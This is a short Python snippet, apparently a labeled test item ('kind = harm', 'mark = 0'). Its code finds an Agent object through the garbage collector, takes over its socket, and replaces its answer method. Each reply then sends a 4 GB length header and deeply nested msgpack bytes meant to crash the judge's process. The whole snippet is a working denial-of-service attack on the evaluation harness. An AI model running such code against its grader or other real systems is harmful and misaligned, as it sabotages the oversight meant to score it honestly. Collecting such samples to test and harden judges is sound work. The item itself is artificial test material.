# kind = "harm"
# goal = "the judge's process"
# trick = "answers with a length of 4 GB, then with msgpack that nests and lies"
# mark = 0
# %%
import gc, os, struct
gc.unfreeze()
for thing in gc.get_objects():
    if type(thing).__name__ == "Agent":
        agent = thing
fd = agent.channel.sock.fileno()
def answer(message):
    os.write(fd, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + b"\x91" * 70000)
agent.answer = answer
